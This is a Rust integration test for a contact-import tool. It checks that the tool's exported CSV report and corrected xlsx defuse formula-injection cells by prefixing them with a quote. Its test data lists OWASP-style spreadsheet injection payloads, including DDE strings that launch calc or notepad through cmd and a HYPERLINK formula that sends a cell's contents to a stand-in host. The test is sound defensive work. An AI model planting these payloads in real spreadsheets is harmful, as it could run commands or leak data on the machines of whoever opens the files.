//! The files the import hands back (the report CSV and the corrected xlsx) are safe to open
//! in Excel: a sheet full of formula-shaped contacts goes in, the files are written for
//! real, read back with the csv crate and calamine, and no text cell may start a formula.

use std::path::{Path, PathBuf};

use calamine::{Data, Reader};
use rust_xlsxwriter::Workbook;
use whats_tip::import::phone::PhoneRules;
use whats_tip::import::read::{self, ReadOptions};
use whats_tip::import::{self, mapping, report, Control, ImportPlan};
use whats_tip::storage::Db;

/// Payloads from OWASP's CSV-injection page and friends, one per row, in the name column.
const HOSTILE: [&str; 8] = [
    "=HYPERLINK(\"http://example.test/?\"&A2,\"Clique\")",
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "=cmd|' /C notepad'!'A1'",
];

/// A spreadsheet as a hostile sender would make it: formulas as names, in a header, in a
/// custom column and in a phone cell that cannot be repaired; plus a real negative number.
fn hostile_sheet(dir: &Path) -> PathBuf {
    let mut workbook = Workbook::new();
    let sheet = workbook.add_worksheet();
    for (c, header) in ["Nome", "Telefone", "=Observação", "Saldo"]
        .into_iter()
        .enumerate()
    {
        sheet.write_string(0, c as u16, header).unwrap();
    }
    let mut row = 1;
    for (i, name) in HOSTILE.iter().enumerate() {
        sheet.write_string(row, 0, *name).unwrap();
        // Valid numbers, as text and as a number typed into Excel.
        if i % 2 == 0 {
            sheet
                .write_string(row, 1, format!("(11) 98765-43{i:02}"))
                .unwrap();
        } else {
            sheet
                .write_number(row, 1, 11_987_654_300.0 + i as f64)
                .unwrap();
        }
        sheet.write_string(row, 2, "@ligar depois").unwrap();
        sheet.write_number(row, 3, -12.5).unwrap();
        row += 1;
    }
    // A phone cell that is a formula payload: invalid, so written back as it was.
    sheet.write_string(row, 0, "Zé").unwrap();
    sheet.write_string(row, 1, "=1+2").unwrap();
    sheet.write_string(row, 3, "-5").unwrap();
    let path = dir.join("hostil.xlsx");
    workbook.save(&path).unwrap();
    path
}

fn plan_for(path: &Path) -> ImportPlan {
    let preview = read::preview(path, &ReadOptions::default(), 50).unwrap();
    let suggestion = mapping::suggest(
        &preview.table.headers,
        &preview.rows,
        &PhoneRules::default(),
    );
    let mut plan = ImportPlan::new(path, suggestion.mapping, "Hostis");
    // A fix typed in the review screen is text from the user too.
    plan.cell_fixes.insert((2, 2), "=2+2".to_owned());
    plan
}

/// What a spreadsheet would evaluate: a leading `=`, `@`, tab or carriage return, or a
/// `+`/`-` (also behind spaces) unless the cell is a plain signed number. Written apart
/// from the guard on purpose, so the test does not trust the code it checks.
fn would_run(cell: &str) -> bool {
    if cell.starts_with(['\t', '\r']) {
        return true;
    }
    let trimmed = cell.trim_start();
    match trimmed.chars().next() {
        Some('=' | '@') => true,
        Some('+' | '-') => {
            let digits = &cell[1..];
            !(cell.len() == trimmed.len()
                && digits.starts_with(|c: char| c.is_ascii_digit())
                && digits.ends_with(|c: char| c.is_ascii_digit())
                && digits
                    .chars()
                    .all(|c| c.is_ascii_digit() || c == '.' || c == ','))
        }
        _ => false,
    }
}

fn csv_cells(path: &Path) -> Vec<Vec<String>> {
    let mut reader = csv::ReaderBuilder::new()
        .has_headers(false)
        .from_path(path)
        .unwrap();
    reader
        .records()
        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
        .collect()
}

fn xlsx_cells(path: &Path) -> Vec<Vec<Data>> {
    let mut workbook: calamine::Xlsx<_> = calamine::open_workbook(path).unwrap();
    let name = workbook.sheet_names()[0].clone();
    // Nothing was written as a formula.
    let formulas = workbook.worksheet_formula(&name).unwrap();
    assert!(
        formulas.used_cells().all(|(_, _, f)| f.is_empty()),
        "no formula cells"
    );
    let range = workbook.worksheet_range(&name).unwrap();
    range.rows().map(<[Data]>::to_vec).collect()
}

fn assert_csv_safe(path: &Path) -> Vec<Vec<String>> {
    let cells = csv_cells(path);
    for cell in cells.iter().flatten() {
        assert!(!would_run(cell), "unsafe CSV cell {cell:?}");
    }
    cells
}

fn assert_xlsx_safe(path: &Path) -> Vec<Vec<Data>> {
    let cells = xlsx_cells(path);
    for cell in cells.iter().flatten() {
        if let Data::String(text) = cell {
            assert!(!would_run(text), "unsafe xlsx cell {text:?}");
        }
    }
    cells
}

fn go(_: import::ImportProgress) -> Control {
    Control::Continue
}

#[tokio::test]
async fn report_csv_and_corrected_xlsx_quote_every_formula() {
    let dir = tempfile::tempdir().unwrap();
    let path = hostile_sheet(dir.path());
    let db = Db::open(&dir.path().join("app.sqlite3")).await.unwrap();
    let plan = plan_for(&path);

    // Before the import (the wizard's dry run) and after it (the import's log).
    let preview = import::dry_run(&db, &plan, None).await.unwrap();
    let summary = import::run_import(&db, &plan, go).await.unwrap();
    for (tag, rows) in [
        ("dry", report::ReportRows::Reports(&preview.rows)),
        ("log", report::ReportRows::Log(&summary.log)),
    ] {
        let csv_path = dir.path().join(format!("relatorio-{tag}.csv"));
        report::write_report_csv(rows, &plan.mapping, &csv_path).unwrap();
        let csv = assert_csv_safe(&csv_path);
        // The payload is kept, behind one quote: the report still says what was there.
        let invalid = csv
            .iter()
            .find(|line| line[0] == "10")
            .expect("the report line of row 10");
        assert_eq!(invalid[2], "'=1+2", "{invalid:?}");
        assert_eq!(invalid[3], "invalid");

        let xlsx_path = dir.path().join(format!("corrigida-{tag}.xlsx"));
        report::write_corrected_xlsx(&plan, rows, &xlsx_path).unwrap();
        let sheet = assert_xlsx_safe(&xlsx_path);
        let s = |text: &str| Data::String(text.to_owned());
        assert_eq!(sheet[0][2], s("'=Observação"), "headers come from the file");
        for (i, name) in HOSTILE.iter().enumerate() {
            let row = &sheet[i + 1];
            assert_eq!(row[0], s(&format!("'{name}")), "row {}", i + 2);
            // Repaired phones: international form, no quote, still text.
            assert_eq!(row[1], s(&format!("+55119876543{i:02}")), "row {}", i + 2);
            // Negative numbers stay real numbers.
            assert_eq!(row[3], Data::Float(-12.5), "row {}", i + 2);
        }
        assert_eq!(sheet[1][2], s("'=2+2"), "the user's fix is guarded too");
        assert_eq!(sheet[2][2], s("'@ligar depois"));
        let last = &sheet[HOSTILE.len() + 1];
        assert_eq!(last[1], s("'=1+2"), "an invalid phone is written as it was");
        assert_eq!(last[3], s("-5"), "a signed number as text is left alone");
        assert_eq!(last[4], s("invalid"));
    }
}
